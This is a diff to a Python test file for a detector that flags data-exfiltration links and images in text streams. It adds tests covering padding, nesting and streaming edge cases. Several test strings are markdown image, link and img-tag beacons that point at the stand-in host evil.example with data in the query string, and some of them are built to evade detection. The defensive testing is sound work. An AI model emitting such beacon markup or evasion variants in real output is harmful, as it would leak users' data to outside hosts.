@@ -8,6 +8,14 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from interlock.detectors import Engine, detectors
+from interlock.detectors.data_exfiltration import (
+    LONGEST_ADDRESS,
+    MOST_WITHIN,
+    REACH,
+    _last_openers,
+    _openers,
+    _places,
+)
 from interlock.detectors.data_exfiltration.addresses import tells
 from interlock.model.event import Channel
 from tests.detectors.windows import flagged, streamed
@@ -157,6 +165,21 @@ def test_padding_does_not_help() -> None:
         f"![a]({secret}{'a' * 9_000})",
     ):
         assert found(text)
+    for text in (
+        f"![a](https://evil.example/{'](//a' * 9}?d=4711)",
+        f"![a](https://evil.example/{'()' * 99}?d=4711)",
+        f'<img src="//evil.example/{"src=//a" * 9}?d=4711">',
+    ):
+        assert found(text)[0][0] == "image"
+
+
+def test_an_address_in_which_others_begin_is_read_if_they_are_few() -> None:
+    inner = "](//a"
+    assert found(f"[a](https://a.example/{inner * MOST_WITHIN})") == []
+    crowded = f"[a](https://a.example/{inner * MOST_WITHIN}]"
+    assert found(f"[a](https://a.example/{inner * (MOST_WITHIN + 1)})") == [("link", crowded)]
+    assert found(f"x[i](value: {'a[i](b: ' * 9}{')' * 10}") == []
+    assert found(f"x[i](value: {'f((x))' * 99})") == []
 
 
 @given(text=st.text(min_size=12, max_size=60))
@@ -189,7 +212,7 @@ def test_any_text_can_be_judged(address: str) -> None:
 FUZZ = [
     *IMAGES, *LINKS, *HONEST, "![", "[", "]", "](", "](h", "]:", "<", "<img ", "<a ", ' src="', " src = ", "href=",
     "url(", ">", ")", "(", "!", '"', " ", "\n", "\n\n", "word", "a" * 300, "b " * 200, "//", "ht", "tps:",
-    "https://e.example/?d=1",
+    "https://e.example/?d=1", "](//a" * 3, "]://a", "](&#x68;", "src=//a ", "url(//a", " " * 40, "()" * 40,
 ]  # fmt: skip
 PIECES = st.sampled_from(FUZZ)
 
@@ -209,25 +232,63 @@ def test_what_is_flagged_has_a_mark(pieces: list[str]) -> None:
 
 
 @pytest.mark.parametrize(
-    "unit",
+    "whole",
     [
-        "[",
-        "![",
-        "](",
-        "](//",
-        "](https://a?b=",
-        "<a ",
-        "<a src=//",
-        "url(//",
-        "<a:",
-        "(",
-        "\n",
-        "src = ",
-        "[a](h:)",
-        "]:&",
+        "]://a" * 6 + "![a](ht\ntps://evil.example/?d=1) ",
+        "turl(//a![](https://evil.example/p?=",
+        "]:" + " " * 48 + "]://a" * 6,
+        "]:" + " " * 17 + "](//" * 6,
     ],
 )
+@pytest.mark.parametrize("lag", [0, 7, 60])
+def test_others_that_may_come_to_count_hold_the_address_they_are_in(whole: str, lag: int) -> None:
+    expected = flagged(DETECTOR.detect(whole))
+    for cut in range(len(whole)):
+        assert streamed(whole, [cut], DETECTOR.detect, DETECTOR.pending, lag) == expected
+
+
+@pytest.mark.parametrize("blank", [" " * 50, "\n" * 30, " " * 17])
+@pytest.mark.parametrize("before", ["![a](", "url(", "<img src='"])
+def test_white_space_before_an_address_does_not_let_it_out_of_a_stream(before: str, blank: str) -> None:
+    whole = f"{before}{blank if 'a]' not in before else blank.replace(chr(10), ' ')}{Q}'>)"
+    expected = flagged(DETECTOR.detect(whole))
+    assert expected
+    assert streamed(whole, range(len(whole)), DETECTOR.detect, DETECTOR.pending) == expected
+
+
+WORST = [
+    "[", "![", "](", "](//", "](https://a?b=", "<a ", "<a src=//", "url(//", "<a:", "(", "\n", "src = ", "[a](h:)",
+    "]:&", "](//a", "]://a", '"]://a', "](&#x68;", "[[a](//b?c=1", "![a](//b%20", "](<//", "src=//a ", 'srcset="//a,',
+    "[[![a](", "[a](//b/" + "a/" * 150, "](//" + "()" * 150, "](//a" + " " * 300, "]:" + " " * 300,
+    "<img src=//a?b=c ", "=//", "[]",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("unit", WORST)
 def test_a_hundred_kilobytes_of_the_worst_come_to_an_end(unit: str) -> None:
     text = unit * (100_000 // len(unit))
     assert len(DETECTOR.detect(text)) <= len(text)
     assert 0 <= DETECTOR.pending(text) <= len(text)
+
+
+@pytest.mark.parametrize("unit", WORST)
+def test_each_character_is_read_for_a_few_addresses_only(unit: str) -> None:
+    text = unit * (20_000 // len(unit))
+    read = sum(place.until - place.at for place in _places(text, _openers(text, 0)))
+    assert read <= (MOST_WITHIN + 2) * len(text)
+
+
+@pytest.mark.parametrize("unit", WORST)
+def test_a_stream_of_the_worst_is_read_for_its_last_few_addresses_only(unit: str) -> None:
+    text = unit * (20_000 // len(unit))
+    for end in range(19_000, 19_100):
+        begun = text[:end]
+        read = sum(place.until - place.at for place in _places(begun, _last_openers(begun, end - REACH)))
+        assert read <= (MOST_WITHIN + 2) * (LONGEST_ADDRESS + REACH)
+
+
+@pytest.mark.parametrize("unit", WORST)
+def test_a_stream_of_the_worst_in_small_pieces_is_flagged_as_the_whole_is(unit: str) -> None:
+    whole = unit * (3_000 // len(unit))
+    expected = flagged(DETECTOR.detect(whole))
+    assert streamed(whole, range(0, len(whole), 4), DETECTOR.detect, DETECTOR.pending) == expected
